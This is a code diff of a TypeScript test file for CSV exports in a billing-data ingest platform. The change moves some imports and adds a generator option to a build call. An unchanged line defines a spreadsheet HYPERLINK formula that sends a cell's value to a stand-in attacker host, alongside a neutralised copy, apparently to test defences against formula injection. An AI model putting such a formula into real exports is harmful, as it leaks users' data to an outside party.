@@ -4,11 +4,13 @@ import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
 import { describe, expect, it } from 'vitest';
-import { FOCUS_HEADER, importBillFile, IngestPipeline, simulate } from '../../../platform/ingest/index.ts';
+import { IngestPipeline } from '../../../platform/ingest/index.ts';
+import { FOCUS_HEADER, importBillFile, simulate } from '../index.ts';
 import { useApi } from '../../../test/support/api.ts';
 import { TEST_ENGINES, useWarehouse } from '../../../test/support/engines.ts';
 import { MODELS, OPERATOR } from '../../../test/support/finops.ts';
 import { buildProject } from '../../../platform/transforms/index.ts';
+import { MODEL_GENERATORS } from '../../index.ts';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Compute")';
 const NEUTRALIZED = `'${HYPERLINK}`;
@@ -29,7 +31,7 @@ describe.each(TEST_ENGINES)('CSV exports on %s', (engine) => {
     await writeFile(path, stringify([...simulation.bill, credit], { header: true, columns: [...FOCUS_HEADER] }));
     const imported = await importBillFile(db.warehouse, path, { tenant: OPERATOR });
     expect(imported.rows_parked).toBe(0);
-    await buildProject(db.warehouse, { modelsDir: MODELS, targetDir: `${db.harness.dataDir}/target`, select: ['+tag:finops'], tenant: OPERATOR, trigger: 'api' });
+    await buildProject(db.warehouse, { generators: MODEL_GENERATORS, modelsDir: MODELS, targetDir: `${db.harness.dataDir}/target`, select: ['+tag:finops'], tenant: OPERATOR, trigger: 'api' });
   }
 
   /** The CSV body's record whose `column` is `value`, raw (as a spreadsheet reads it) and parsed. */
